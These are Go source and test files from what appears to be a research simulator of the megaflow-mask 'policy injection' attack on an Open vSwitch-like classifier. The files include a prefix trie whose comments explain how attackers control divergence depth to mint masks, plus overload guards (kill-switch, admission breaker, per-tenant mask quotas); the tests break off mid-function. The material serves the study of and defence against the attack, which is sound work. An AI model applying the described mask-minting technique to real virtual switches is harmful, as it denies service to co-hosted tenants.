	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// Property: the attacker's lever — flipping bit d of a value that matches
// a stored prefix produces CheckBits exactly d+1.
func TestAttackerControlsDivergenceDepth(t *testing.T) {
	const width = 32
	tr := New(width)
	base := uint64(0x0a141e28) // arbitrary allow value
	tr.Insert(base, width)
	for d := 0; d < width; d++ {
		probe := base ^ (1 << uint(width-1-d))
		r := tr.Lookup(probe, width)
		if r.CanMatch || r.CheckBits != d+1 {
			t.Fatalf("flip bit %d: %+v", d, r)
		}
	}
}

// TestMinMax pins Min/Max against the first/last element of Prefixes(),
// across random populations and under removals — the bookkeeping the
// megaflow ports range filter depends on.
func TestMinMax(t *testing.T) {
	tr := New(16)
	if _, ok := tr.Min(); ok {
		t.Fatal("Min on empty trie reported a prefix")
	}
	if _, ok := tr.Max(); ok {
		t.Fatal("Max on empty trie reported a prefix")
	}

	rng := rand.New(rand.NewSource(7))
	type pv struct {
		v    uint64
		plen int
	}
	var pop []pv
	check := func() {
		t.Helper()
		all := tr.Prefixes()
		mn, okMin := tr.Min()
		mx, okMax := tr.Max()
		if len(all) == 0 {
			if okMin || okMax {
				t.Fatalf("empty trie: Min ok=%v Max ok=%v", okMin, okMax)
			}
			return
		}
		if !okMin || !okMax {
			t.Fatalf("non-empty trie: Min ok=%v Max ok=%v", okMin, okMax)
		}
		if mn != all[0] {
			t.Fatalf("Min = %v, Prefixes()[0] = %v", mn, all[0])
		}
		if mx != all[len(all)-1] {
			t.Fatalf("Max = %v, Prefixes()[last] = %v", mx, all[len(all)-1])
		}
	}
	for i := 0; i < 200; i++ {
		p := pv{v: rng.Uint64() & 0xffff, plen: 1 + rng.Intn(16)}
		tr.Insert(p.v, p.plen)
		pop = append(pop, p)
		check()
	}
	rng.Shuffle(len(pop), func(i, j int) { pop[i], pop[j] = pop[j], pop[i] })
	for _, p := range pop {
		if !tr.Remove(p.v, p.plen) {
			t.Fatalf("Remove(%#x/%d) = false for a stored prefix", p.v, p.plen)
		}
		check()
	}
}

// TestMinMaxSamePlen pins the single-plen regime the per-subtable ports
// filter actually runs in: Min/Max must be the numeric min/max of the
// masked values.
func TestMinMaxSamePlen(t *testing.T) {
	tr := New(16)
	const plen = 12
	vals := []uint64{0x5550, 0x0010, 0xfff0, 0x8880, 0x0020}
	for _, v := range vals {
		tr.Insert(v, plen)
	}
	mn, _ := tr.Min()
	mx, _ := tr.Max()
	if mn.Value != 0x0010&^0xf || mx.Value != 0xfff0 {
		t.Fatalf("min/max = %#x/%#x, want 0x0010/0xfff0", mn.Value, mx.Value)
	}
}
