// Package trie implements the per-field binary prefix tries the slow-path
// classifier uses for subtable skipping, modelled on the tries of Open
// vSwitch's lib/classifier.
//
// The classifier keeps one Trie per prefix-tracked field, containing the
// prefixes of every rule that matches on that field. Before hashing a
// packet against a subtable, it asks the trie whether any stored prefix of
// the subtable's length can match the packet. The answer comes with the
// number of leading field bits that had to be *examined* to prove it —
// the "divergence depth" — and exactly those bits are folded into the
// megaflow mask.
//
// This is the algorithmic deficiency the policy-injection attack exploits:
// the examined-bit count varies with the packet, one distinct depth per
// leading-bit position, so an adversary can mint one distinct megaflow mask
// per depth combination across fields.
package trie

import "fmt"

// Trie stores bit-string prefixes of a fixed-width field, MSB first, with
// reference counts so the same prefix may be inserted by multiple rules.
// The zero Trie is not usable; construct with New. Trie is not safe for
// concurrent mutation; the classifier serialises access.
type Trie struct {
	width int
	root  *node
	size  int // number of stored (refcounted) prefixes, counting multiplicity
}

type node struct {
	child     [2]*node
	terminals int // prefixes ending exactly here
}

// New returns an empty trie over a field of the given width in bits
// (1..64).
func New(width int) *Trie {
	if width < 1 || width > 64 {
		panic(fmt.Sprintf("trie: invalid field width %d", width))
	}
	return &Trie{width: width, root: &node{}}
}

// Width returns the field width the trie was built for.
func (t *Trie) Width() int { return t.width }

// Len returns the number of stored prefixes, counting multiplicity.
func (t *Trie) Len() int { return t.size }

// bitOf extracts bit i (0 = MSB of the field) of a right-aligned value.
func (t *Trie) bitOf(value uint64, i int) int {
	return int(value >> uint(t.width-1-i) & 1)
}

func (t *Trie) checkPlen(plen int) {
	if plen < 0 || plen > t.width {
		panic(fmt.Sprintf("trie: prefix length %d out of range [0,%d]", plen, t.width))
	}
}

// Insert adds the plen-bit prefix of value. Bits of value below the prefix
// are ignored. Inserting the same prefix twice increments its reference
// count.
func (t *Trie) Insert(value uint64, plen int) {
	t.checkPlen(plen)
	n := t.root
	for i := 0; i < plen; i++ {
		b := t.bitOf(value, i)
		if n.child[b] == nil {
			n.child[b] = &node{}
		}
		n = n.child[b]
	}
	n.terminals++
	t.size++
}

// Remove drops one reference to the plen-bit prefix of value, pruning nodes
// that become empty. It reports whether the prefix was present.
func (t *Trie) Remove(value uint64, plen int) bool {
	t.checkPlen(plen)
	path := make([]*node, 0, plen+1)
	n := t.root
	path = append(path, n)
	for i := 0; i < plen; i++ {
		b := t.bitOf(value, i)
		if n.child[b] == nil {
			return false
		}
		n = n.child[b]
		path = append(path, n)
	}
	if n.terminals == 0 {
		return false
	}
	n.terminals--
	t.size--
	// Prune childless, terminal-free nodes bottom-up.
	for i := len(path) - 1; i > 0; i-- {
		cur := path[i]
		if cur.terminals > 0 || cur.child[0] != nil || cur.child[1] != nil {
			break
		}
		b := t.bitOf(value, i-1)
		path[i-1].child[b] = nil
	}
	return true
}

// Result is the outcome of a Lookup.
type Result struct {
	// CanMatch reports whether some stored prefix of exactly the requested
	// length matches the value, i.e. whether the subtable that asked may
	// contain a matching rule and must be hash-probed.
	CanMatch bool
	// CheckBits is the number of leading bits of the value that were
	// examined to decide CanMatch. The classifier must reveal (unwildcard)
	// exactly these bits in the megaflow it synthesises: a packet agreeing
	// with the lookup value on CheckBits leading bits would have taken the
	// same trie path and received the same answer.
	CheckBits int
}

// Lookup asks whether a stored prefix of length plen matches value,
// reporting how many leading bits of value were examined.
//
// The walk follows value's bits from the root. If it reaches depth plen, a
// terminal there answers CanMatch=true with plen bits examined. If the walk
// falls off the trie at depth d < plen, no stored prefix of length >= d+1
// agrees with value, so CanMatch=false after examining d+1 bits — the
// divergence depth the attack manipulates.
func (t *Trie) Lookup(value uint64, plen int) Result {
	t.checkPlen(plen)
	n := t.root
	for i := 0; i < plen; i++ {
		b := t.bitOf(value, i)
		next := n.child[b]
		if next == nil {
			return Result{CanMatch: false, CheckBits: i + 1}
		}
		n = next
	}
	return Result{CanMatch: n.terminals > 0, CheckBits: plen}
}

// Min returns the first stored prefix in Prefixes() order — the one with
// the lexicographically smallest bit string (shorter prefixes before
// their extensions) — and false when the trie is empty. Together with Max
// it bounds the stored values, which is what the megaflow cache's
// per-subtable ports range filter consults on every burst.
func (t *Trie) Min() (Prefix, bool) {
	n := t.root
	value, depth := uint64(0), 0
	for {
		if n.terminals > 0 {
			return Prefix{Value: value << uint(t.width-depth), Len: depth, Count: n.terminals}, true
		}
		switch {
		case n.child[0] != nil:
			n = n.child[0]
			value <<= 1
		case n.child[1] != nil:
			n = n.child[1]
			value = value<<1 | 1
		default:
			return Prefix{}, false // only reachable on an empty trie
		}
		depth++
	}
}

// Max returns the last stored prefix in Prefixes() order — the one with
// the lexicographically largest bit string — and false when the trie is
// empty. See Min.
func (t *Trie) Max() (Prefix, bool) {
	if t.size == 0 {
		return Prefix{}, false
	}
	n := t.root
	value, depth := uint64(0), 0
	for {
		switch {
		case n.child[1] != nil:
			n = n.child[1]
			value = value<<1 | 1
		case n.child[0] != nil:
			n = n.child[0]
			value <<= 1
		default:
			// Deepest node on the rightmost path; pruning guarantees it
			// carries a terminal.
			return Prefix{Value: value << uint(t.width-depth), Len: depth, Count: n.terminals}, true
		}
		depth++
	}
}

// Prefixes returns all stored prefixes as (value, plen, count) triples in
// lexicographic order, for diagnostics and tests.
func (t *Trie) Prefixes() []Prefix {
	var out []Prefix
	var walk func(n *node, value uint64, depth int)
	walk = func(n *node, value uint64, depth int) {
		if n.terminals > 0 {
			out = append(out, Prefix{Value: value << uint(t.width-depth), Len: depth, Count: n.terminals})
		}
		for b := 0; b < 2; b++ {
			if c := n.child[b]; c != nil {
				walk(c, value<<1|uint64(b), depth+1)
			}
		}
	}
	walk(t.root, 0, 0)
	return out
}

// Prefix is one stored prefix: the top Len bits of Value (right-padded with
// zeros to the field width) with reference count Count.
type Prefix struct {
	Value uint64
	Len   int
	Count int
}

func (p Prefix) String() string {
	return fmt.Sprintf("%#x/%d(x%d)", p.Value, p.Len, p.Count)
}
