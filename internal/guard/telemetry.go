package guard

import "policyinject/internal/telemetry"

// guardTelemetry holds the guard's instrument handles. The guard's own
// counters are plain monotonic totals maintained by the single
// timeline goroutine, so PublishTelemetry republishes them with
// Counter.Store (the single-publisher pattern) rather than threading
// atomic adds through the deterministic admission path.
type guardTelemetry struct {
	admitted     *telemetry.Counter
	dropped      *telemetry.Counter
	fairDrops    *telemetry.Counter
	breakerDrops *telemetry.Counter
	breakerTrips *telemetry.Counter
	quotaRejects *telemetry.Counter
	masksMinted  *telemetry.Counter
	killTrips    *telemetry.Counter

	killEngaged  *telemetry.Gauge
	breakerState *telemetry.Gauge // 0 closed, 1 half-open, 2 open
}

// SetTelemetry registers the guard's live instruments into reg. Call
// once at timeline setup; nil disables publishing.
func (g *Guard) SetTelemetry(reg *telemetry.Registry) {
	if reg == nil {
		g.tel = nil
		return
	}
	g.tel = &guardTelemetry{
		admitted:     reg.Counter("guard_upcalls_admitted_total"),
		dropped:      reg.Counter("guard_upcalls_dropped_total"),
		fairDrops:    reg.Counter("guard_fair_drops_total"),
		breakerDrops: reg.Counter("guard_breaker_drops_total"),
		breakerTrips: reg.Counter("guard_breaker_trips_total"),
		quotaRejects: reg.Counter("guard_quota_rejects_total"),
		masksMinted:  reg.Counter("guard_masks_minted_total"),
		killTrips:    reg.Counter("guard_killswitch_trips_total"),
		killEngaged:  reg.Gauge("guard_killswitch_engaged"),
		breakerState: reg.Gauge("guard_breaker_state"),
	}
}

// PublishTelemetry republishes the guard counters and state gauges.
// The scenario timeline calls it once per tick. No-op without
// SetTelemetry or for unconfigured sub-guards.
func (g *Guard) PublishTelemetry() {
	t := g.tel
	if t == nil {
		return
	}
	if g.Kill != nil {
		engaged := 0.0
		if g.Kill.Engaged() {
			engaged = 1
		}
		t.killEngaged.Set(engaged)
		t.killTrips.Store(g.Kill.Trips())
	}
	if g.Admission != nil {
		st := g.Admission.Stats()
		t.admitted.Store(st.Admitted)
		t.dropped.Store(st.Dropped)
		t.fairDrops.Store(st.FairDropped)
		t.breakerDrops.Store(st.BreakerDropped)
		t.breakerTrips.Store(st.BreakerTrips)
		switch st.State {
		case "open":
			t.breakerState.Set(2)
		case "half-open":
			t.breakerState.Set(1)
		default:
			t.breakerState.Set(0)
		}
	}
	if g.Masks != nil {
		t.quotaRejects.Store(g.Masks.Rejects())
		t.masksMinted.Store(g.Masks.Minted())
	}
}
