// Package guard is the overload-control layer of the datapath: the
// backstops real OVS carries in ofproto-dpif-upcall that the paper's
// attack analysis assumes away. Three independent guards compose:
//
//   - KillSwitch: when resident megaflows exceed a multiple of the
//     adaptive flow limit, collapse the revalidator's max-idle so the
//     next dump round mass-expires the cache, then restore it once
//     pressure clears. Recovery time (trip -> sustained-clear) is a
//     first-class metric.
//   - Admission: a bounded per-tick upcall admission queue with
//     per-port fair drop, fronted by a slow-path circuit breaker that
//     trips on sustained saturation, backs off exponentially, and
//     re-closes through half-open probes.
//   - MaskLedger: per-tenant megaflow-mask quotas with attribution —
//     the ledger learns which tenant minted which mask (via the exact
//     in_port every CMS-scoped rule carries) and refuses new masks to
//     tenants over quota, so a mask-minting attacker is isolated while
//     victims keep installing.
//
// Every guard is driven by the caller's logical clock and touches no
// wall time or global randomness, so guarded runs stay deterministic.
// The guards implement the narrow hook interfaces of their host layers
// (revalidator.OverloadController, dataplane.UpcallGuard,
// dataplane.MaskGuard, cms.PortBinder) structurally; this package
// imports neither.
//
//lint:deterministic
package guard

import "policyinject/internal/metrics"

// Config assembles a Guard: each section is optional and nil disables
// that guard entirely.
type Config struct {
	KillSwitch *KillSwitchConfig
	Admission  *AdmissionConfig
	MaskQuota  *MaskQuotaConfig
}

// Guard bundles the configured overload controls for one datapath.
type Guard struct {
	Kill      *KillSwitch // nil when not configured
	Admission *Admission  // nil when not configured
	Masks     *MaskLedger // nil when not configured

	tel *guardTelemetry // live instruments, nil without SetTelemetry
}

// New builds the configured guards. A zero Config yields an empty (but
// usable) Guard with every control disabled.
func New(cfg Config) *Guard {
	g := &Guard{}
	if cfg.KillSwitch != nil {
		g.Kill = NewKillSwitch(*cfg.KillSwitch)
	}
	if cfg.Admission != nil {
		g.Admission = NewAdmission(*cfg.Admission)
	}
	if cfg.MaskQuota != nil {
		g.Masks = NewMaskLedger(*cfg.MaskQuota)
	}
	return g
}

// Observe records the per-tick gauges of every configured guard into a
// metrics group at logical time t.
func (g *Guard) Observe(tl *metrics.Group, t float64) {
	if g.Kill != nil {
		engaged := 0.0
		if g.Kill.Engaged() {
			engaged = 1
		}
		tl.Observe(t, "killswitch_engaged", engaged)
	}
	if g.Admission != nil {
		tl.Observe(t, "upcalls_dropped", float64(g.Admission.Stats().Dropped))
	}
	if g.Masks != nil {
		tl.Observe(t, "quota_rejects", float64(g.Masks.Rejects()))
	}
}

// Summary returns the end-of-run summary metrics of every configured
// guard, keyed the way scenario packs assert on them.
func (g *Guard) Summary() map[string]float64 {
	out := map[string]float64{}
	if g.Kill != nil {
		out["killswitch_trips"] = float64(g.Kill.Trips())
		out["killswitch_recoveries"] = float64(g.Kill.Recoveries())
		out["killswitch_recovery_ticks"] = float64(g.Kill.LastRecoveryTicks())
	}
	if g.Admission != nil {
		st := g.Admission.Stats()
		out["upcalls_admitted"] = float64(st.Admitted)
		out["upcalls_dropped"] = float64(st.Dropped)
		out["fair_drops"] = float64(st.FairDropped)
		out["breaker_drops"] = float64(st.BreakerDropped)
		out["breaker_trips"] = float64(st.BreakerTrips)
	}
	if g.Masks != nil {
		out["quota_rejects"] = float64(g.Masks.Rejects())
		out["masks_minted"] = float64(g.Masks.Minted())
	}
	return out
}
