package guard

// AdmissionConfig tunes the upcall admission queue and its circuit
// breaker. The zero value admits 256 upcalls per logical tick, at most
// 64 per port, and trips the breaker after 3 consecutively saturated
// ticks.
type AdmissionConfig struct {
	// QueueDepth bounds the upcalls admitted per logical tick (default
	// 256 — the handler queue is finite; everything past it is dropped
	// at the datapath, never classified).
	QueueDepth int
	// PortQuota bounds one port's share of the tick's queue (default
	// QueueDepth/4, floor 1): per-port fair drop, so one storming port
	// cannot starve the others out of the slow path.
	PortQuota int
	// BreakerTripAfter is how many consecutive saturated ticks (ticks
	// that dropped at least one upcall — the logical-clock proxy for
	// sustained upcall latency) open the breaker (default 3; negative
	// disables the breaker).
	BreakerTripAfter int
	// BreakerBackoff is the initial open duration in ticks (default 2).
	// Every failed half-open probe round doubles it, up to
	// BreakerMaxBackoff (default 32); a clean close resets it.
	BreakerBackoff    int
	BreakerMaxBackoff int
	// HalfOpenProbes is how many upcalls per tick a half-open breaker
	// admits to test the slow path (default 8).
	HalfOpenProbes int
}

func (c *AdmissionConfig) setDefaults() {
	if c.QueueDepth <= 0 {
		c.QueueDepth = 256
	}
	if c.PortQuota <= 0 {
		c.PortQuota = c.QueueDepth / 4
		if c.PortQuota < 1 {
			c.PortQuota = 1
		}
	}
	if c.BreakerTripAfter == 0 {
		c.BreakerTripAfter = 3
	}
	if c.BreakerBackoff <= 0 {
		c.BreakerBackoff = 2
	}
	if c.BreakerMaxBackoff <= 0 {
		c.BreakerMaxBackoff = 32
	}
	if c.HalfOpenProbes <= 0 {
		c.HalfOpenProbes = 8
	}
}

// Breaker states.
const (
	breakerClosed = iota
	breakerOpen
	breakerHalfOpen
)

// AdmissionStats is a snapshot of the admission counters.
type AdmissionStats struct {
	Admitted       uint64
	Dropped        uint64 // all drops (queue + fair + breaker)
	FairDropped    uint64 // drops charged to a port's fair-share quota
	BreakerDropped uint64 // drops while the breaker was open/probing
	BreakerTrips   uint64
	State          string // "closed", "open" or "half-open"
}

// Admission is the bounded upcall admission queue: the dataplane asks
// it (via the UpcallGuard hook) before classifying a missed flow, and a
// refusal drops the packet at the datapath without a slow-path visit.
// Per tick it admits at most QueueDepth upcalls, at most PortQuota per
// ingress port; a run of saturated ticks opens the circuit breaker,
// which then re-closes through half-open probe rounds with exponential
// backoff on repeated install storms.
//
// Single-goroutine by design (the datapath itself is), clocked by the
// caller's logical now, and free of map-iteration dependence — guarded
// runs stay byte-deterministic.
type Admission struct {
	cfg AdmissionConfig

	started   bool
	tick      uint64
	total     int
	perPort   map[uint32]int
	tickDrops uint64 // drops during the current tick (saturation signal)

	state     int
	satStreak int
	openUntil uint64
	backoff   int
	probes    int

	stats AdmissionStats
}

// NewAdmission builds an admission queue (zero config: defaults above).
func NewAdmission(cfg AdmissionConfig) *Admission {
	cfg.setDefaults()
	return &Admission{cfg: cfg, perPort: make(map[uint32]int)}
}

// AdmitUpcall decides whether one upcall from inPort at logical time
// now enters the slow path.
func (a *Admission) AdmitUpcall(now uint64, inPort uint32) bool {
	a.advance(now)
	switch a.state {
	case breakerOpen:
		return a.drop(&a.stats.BreakerDropped)
	case breakerHalfOpen:
		if a.probes >= a.cfg.HalfOpenProbes {
			return a.drop(&a.stats.BreakerDropped)
		}
		a.probes++
	}
	if a.total >= a.cfg.QueueDepth {
		return a.drop(nil)
	}
	if a.perPort[inPort] >= a.cfg.PortQuota {
		return a.drop(&a.stats.FairDropped)
	}
	a.total++
	a.perPort[inPort]++
	a.stats.Admitted++
	return true
}

func (a *Admission) drop(class *uint64) bool {
	a.stats.Dropped++
	a.tickDrops++
	if class != nil {
		*class++
	}
	return false
}

// advance closes out the previous tick's accounting when the clock
// moved. Ticks with no upcall traffic at all are never finalized: they
// carry no saturation signal either way.
func (a *Admission) advance(now uint64) {
	if a.started && now == a.tick {
		return
	}
	if a.started {
		a.endTick()
	}
	a.started = true
	a.tick = now
	a.total = 0
	clear(a.perPort)
	a.probes = 0
	if a.state == breakerOpen && now >= a.openUntil {
		a.state = breakerHalfOpen
	}
}

// endTick feeds the finished tick's saturation signal to the breaker.
func (a *Admission) endTick() {
	saturated := a.tickDrops > 0
	a.tickDrops = 0
	if a.cfg.BreakerTripAfter < 0 {
		return
	}
	switch a.state {
	case breakerClosed:
		if !saturated {
			a.satStreak = 0
			return
		}
		a.satStreak++
		if a.satStreak >= a.cfg.BreakerTripAfter {
			a.trip()
		}
	case breakerHalfOpen:
		if saturated {
			a.trip() // probes still drowning: back off harder
		} else if a.probes > 0 {
			// A clean probe round: the slow path keeps up again.
			a.state = breakerClosed
			a.satStreak = 0
			a.backoff = 0
		}
	}
}

// trip opens the breaker from the current tick, doubling the backoff on
// every consecutive trip up to the cap.
func (a *Admission) trip() {
	if a.backoff == 0 {
		a.backoff = a.cfg.BreakerBackoff
	} else {
		a.backoff *= 2
		if a.backoff > a.cfg.BreakerMaxBackoff {
			a.backoff = a.cfg.BreakerMaxBackoff
		}
	}
	a.state = breakerOpen
	a.openUntil = a.tick + uint64(a.backoff)
	a.satStreak = 0
	a.stats.BreakerTrips++
}

// Stats returns a snapshot of the admission counters.
func (a *Admission) Stats() AdmissionStats {
	s := a.stats
	switch a.state {
	case breakerOpen:
		s.State = "open"
	case breakerHalfOpen:
		s.State = "half-open"
	default:
		s.State = "closed"
	}
	return s
}
