package guard

// KillSwitchConfig tunes the overload kill-switch. The zero value maps
// to OVS's ofproto-dpif-upcall constants: trip when resident flows
// exceed twice the flow limit, collapse max-idle to one logical unit,
// and declare recovery after two consecutive clear rounds.
type KillSwitchConfig struct {
	// TripFactor engages the switch when flows > TripFactor*limit
	// (default 2, OVS's flow_count > 2*flow_limit).
	TripFactor float64
	// ClearFactor disengages it when flows <= ClearFactor*limit
	// (default 1.25 — above 1 so a cache sitting exactly at its limit,
	// the steady state TrimToLimit produces, reads as clear).
	ClearFactor float64
	// CollapsedMaxIdle is the idle deadline substituted while engaged
	// (default 1: everything not hit in the last logical unit expires).
	CollapsedMaxIdle uint64
	// ClearRounds is how many consecutive clear rounds complete a
	// recovery (default 2).
	ClearRounds int
}

func (c *KillSwitchConfig) setDefaults() {
	if c.TripFactor <= 0 {
		c.TripFactor = 2
	}
	if c.ClearFactor <= 0 {
		c.ClearFactor = 1.25
	}
	if c.CollapsedMaxIdle == 0 {
		c.CollapsedMaxIdle = 1
	}
	if c.ClearRounds <= 0 {
		c.ClearRounds = 2
	}
}

// KillSwitch is the ofproto-dpif-upcall overload backstop: consulted
// once per revalidator round (it implements the revalidator's
// OverloadController hook), it watches resident flows against the
// adaptive limit and collapses the round's idle deadline while the
// cache is critically over-populated, forcing a mass expiry. Recovery
// time — the logical ticks from the trip to ClearRounds consecutive
// clear rounds — is tracked per episode.
type KillSwitch struct {
	cfg KillSwitchConfig

	engaged     bool
	recovering  bool // a trip episode is open; closes after ClearRounds clear rounds
	clearStreak int
	tripAt      uint64

	trips        uint64
	recoveries   uint64
	lastRecovery uint64
}

// NewKillSwitch builds a kill-switch (zero config: OVS constants).
func NewKillSwitch(cfg KillSwitchConfig) *KillSwitch {
	cfg.setDefaults()
	return &KillSwitch{cfg: cfg}
}

// RoundMaxIdle is the per-round hook: given the previous round's dumped
// flow count, the current flow limit and the configured idle deadline,
// it returns the idle deadline this round should sweep with. Engaged
// rounds get CollapsedMaxIdle; everything else passes maxIdle through.
func (k *KillSwitch) RoundMaxIdle(now uint64, flows, limit int, maxIdle uint64) uint64 {
	if limit <= 0 {
		return maxIdle
	}
	pressure := float64(flows)
	over := pressure > k.cfg.TripFactor*float64(limit)
	clear := pressure <= k.cfg.ClearFactor*float64(limit)

	if !k.engaged && over {
		k.engaged = true
		k.trips++
		k.clearStreak = 0
		if !k.recovering {
			// A re-trip during an open recovery episode keeps the original
			// trip clock: recovery time measures the whole incident.
			k.recovering = true
			k.tripAt = now
		}
	}
	if k.engaged {
		if !clear {
			k.clearStreak = 0
			return k.cfg.CollapsedMaxIdle
		}
		k.engaged = false // pressure cleared: restore the normal deadline
	}
	if k.recovering && clear {
		k.clearStreak++
		if k.clearStreak >= k.cfg.ClearRounds {
			k.recovering = false
			k.recoveries++
			k.lastRecovery = now - k.tripAt
		}
	}
	return maxIdle
}

// Engaged reports whether the switch is currently collapsing max-idle.
func (k *KillSwitch) Engaged() bool { return k.engaged }

// Recovering reports whether a trip episode is still open.
func (k *KillSwitch) Recovering() bool { return k.recovering }

// Trips returns how many times the switch engaged.
func (k *KillSwitch) Trips() uint64 { return k.trips }

// Recoveries returns how many trip episodes completed recovery.
func (k *KillSwitch) Recoveries() uint64 { return k.recoveries }

// LastRecoveryTicks returns the logical duration of the most recently
// completed recovery (trip to sustained clear), 0 if none completed.
func (k *KillSwitch) LastRecoveryTicks() uint64 { return k.lastRecovery }
