package guard

import (
	"errors"
	"fmt"
	"sync"

	"policyinject/internal/flow"
)

// ErrMaskQuota is the sentinel wrapped by every quota rejection, so the
// datapath can classify the install error without importing this
// package's internals.
var ErrMaskQuota = errors.New("tenant mask quota exceeded")

// MaskQuotaConfig tunes the per-tenant mask ledger.
type MaskQuotaConfig struct {
	// PerTenant is the maximum number of live megaflow masks one tenant
	// may have minted at a time (default 512). Masks minted on traffic
	// whose port is bound to no tenant are exempt.
	PerTenant int
}

func (c *MaskQuotaConfig) setDefaults() {
	if c.PerTenant <= 0 {
		c.PerTenant = 512
	}
}

// MaskLedger attributes megaflow masks to tenants and enforces the
// per-tenant quota. The CMS binds each pod port to its tenant (the
// ledger implements the cms.PortBinder hook); the megaflow cache asks
// the ledger (via the dataplane.MaskGuard hook) before minting a new
// subtable and notifies it on mint and drop. Attribution keys off the
// exact in_port every CMS-scoped megaflow match carries: the port the
// mask-minting packet arrived on names the tenant that pays for it.
//
// Quota-exceeded tenants get their new masks (and so the entries that
// needed them) refused; every other tenant keeps installing into masks
// it minted or that already exist — the victim stays isolated from the
// attacker's mask budget.
// On a sharded datapath the mint/drop hooks arrive serialized by the
// sharded megaflow's cross-shard ledger lock, but BindPort (pod
// deployment) and the accessors run from the control plane concurrently
// with traffic — so the ledger carries its own mutex and every method
// locks, making it safe from any goroutine.
type MaskLedger struct {
	cfg MaskQuotaConfig

	mu       sync.Mutex
	tenantOf map[uint32]string    // port -> tenant
	owner    map[flow.Mask]string // live mask -> minting tenant
	live     map[string]int       // tenant -> live mask count

	minted  uint64
	rejects uint64
}

// NewMaskLedger builds a ledger (zero config: 512 masks per tenant).
func NewMaskLedger(cfg MaskQuotaConfig) *MaskLedger {
	cfg.setDefaults()
	return &MaskLedger{
		cfg:      cfg,
		tenantOf: make(map[uint32]string),
		owner:    make(map[flow.Mask]string),
		live:     make(map[string]int),
	}
}

// BindPort records that a switch port belongs to a tenant (the
// cms.PortBinder hook, called on pod deployment).
func (l *MaskLedger) BindPort(port uint32, tenant string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.tenantOf[port] = tenant
}

// fullPort is a fully-masked 32-bit in_port field.
const fullPort = 1<<32 - 1

// tenantForLocked attributes a match: the tenant bound to its exact
// in_port, or "" when the in_port is not exact or the port is unbound.
// Callers hold l.mu.
func (l *MaskLedger) tenantForLocked(m flow.Match) string {
	if flow.Key(m.Mask).Get(flow.FieldInPort) != fullPort {
		return ""
	}
	return l.tenantOf[uint32(m.Key.Get(flow.FieldInPort))]
}

// AdmitMask decides whether the tenant behind the match may mint one
// more mask (the dataplane.MaskGuard hook, consulted before a new
// subtable is created). A nil error admits.
func (l *MaskLedger) AdmitMask(m flow.Match) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	tenant := l.tenantForLocked(m)
	if tenant == "" {
		return nil
	}
	if n := l.live[tenant]; n >= l.cfg.PerTenant {
		l.rejects++
		return fmt.Errorf("%w: tenant %q holds %d masks (quota %d)", ErrMaskQuota, tenant, n, l.cfg.PerTenant)
	}
	return nil
}

// MaskMinted records that the match's subtable was created, charging
// the mask to the minting tenant. A mask that is already live keeps its
// original owner (the cache only mints a mask once; this guards the
// ledger against double charging regardless).
func (l *MaskLedger) MaskMinted(m flow.Match) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.minted++
	tenant := l.tenantForLocked(m)
	if tenant == "" {
		return
	}
	if _, exists := l.owner[m.Mask]; exists {
		return
	}
	l.owner[m.Mask] = tenant
	l.live[tenant]++
}

// MaskDropped releases a mask's quota charge when its subtable dies
// (eviction, trim, revalidation or a wholesale flush).
func (l *MaskLedger) MaskDropped(mask flow.Mask) {
	l.mu.Lock()
	defer l.mu.Unlock()
	tenant, ok := l.owner[mask]
	if !ok {
		return
	}
	delete(l.owner, mask)
	if l.live[tenant]--; l.live[tenant] <= 0 {
		delete(l.live, tenant)
	}
}

// Live returns how many masks a tenant currently holds.
func (l *MaskLedger) Live(tenant string) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.live[tenant]
}

// Owner returns the tenant a live mask is attributed to ("" if none).
func (l *MaskLedger) Owner(mask flow.Mask) string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.owner[mask]
}

// Minted returns the total masks minted through the ledger.
func (l *MaskLedger) Minted() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.minted
}

// Rejects returns the total quota rejections.
func (l *MaskLedger) Rejects() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.rejects
}
