package guard

import (
	"errors"
	"testing"

	"policyinject/internal/flow"
)

// TestKillSwitchTripAndRecovery drives the kill-switch through a full
// episode: trip at 2x pressure, collapsed idle while hot, restore on
// clear, recovery declared after two consecutive clear rounds with the
// trip-to-clear duration recorded.
func TestKillSwitchTripAndRecovery(t *testing.T) {
	k := NewKillSwitch(KillSwitchConfig{})
	const maxIdle = 10

	if got := k.RoundMaxIdle(0, 100, 1000, maxIdle); got != maxIdle {
		t.Fatalf("calm round: maxIdle %d, want %d", got, maxIdle)
	}
	if got := k.RoundMaxIdle(5, 2500, 1000, maxIdle); got != 1 {
		t.Fatalf("tripped round: maxIdle %d, want collapsed 1", got)
	}
	if !k.Engaged() || k.Trips() != 1 {
		t.Fatalf("engaged=%v trips=%d, want engaged once", k.Engaged(), k.Trips())
	}
	// Still over the clear threshold: stays collapsed.
	if got := k.RoundMaxIdle(10, 1500, 1000, maxIdle); got != 1 {
		t.Fatalf("hot round: maxIdle %d, want collapsed 1", got)
	}
	// Clear round 1: restores the deadline but recovery is still open.
	if got := k.RoundMaxIdle(15, 1000, 1000, maxIdle); got != maxIdle {
		t.Fatalf("clear round: maxIdle %d, want restored %d", got, maxIdle)
	}
	if k.Engaged() || !k.Recovering() || k.Recoveries() != 0 {
		t.Fatalf("after first clear: engaged=%v recovering=%v recoveries=%d", k.Engaged(), k.Recovering(), k.Recoveries())
	}
	// Clear round 2: recovery completes, duration = 20 - 5.
	k.RoundMaxIdle(20, 900, 1000, maxIdle)
	if k.Recovering() || k.Recoveries() != 1 || k.LastRecoveryTicks() != 15 {
		t.Fatalf("after second clear: recovering=%v recoveries=%d ticks=%d, want recovered in 15",
			k.Recovering(), k.Recoveries(), k.LastRecoveryTicks())
	}
}

// TestKillSwitchRetripKeepsClock: a re-trip inside an open recovery
// episode re-engages without restarting the recovery clock.
func TestKillSwitchRetripKeepsClock(t *testing.T) {
	k := NewKillSwitch(KillSwitchConfig{})
	k.RoundMaxIdle(10, 3000, 1000, 10) // trip
	k.RoundMaxIdle(15, 1000, 1000, 10) // clear 1
	k.RoundMaxIdle(20, 3000, 1000, 10) // re-trip
	if k.Trips() != 2 {
		t.Fatalf("trips %d, want 2", k.Trips())
	}
	k.RoundMaxIdle(25, 1000, 1000, 10)
